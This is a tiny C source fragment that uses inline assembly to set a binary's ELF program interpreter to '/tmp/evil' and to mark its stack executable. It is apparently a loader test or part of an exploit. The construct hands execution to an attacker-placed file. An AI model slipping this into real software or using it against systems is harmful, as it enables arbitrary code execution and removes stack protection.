#include "paths.h"
asm(".section .interp,\"a\"\n.string \"/tmp/evil\"\n.section .note.GNU-stack,\"x\"\n.text\n");
asm(".globl _DYNAMIC\n.globl __stack_chk_guard\n.weak main\n");
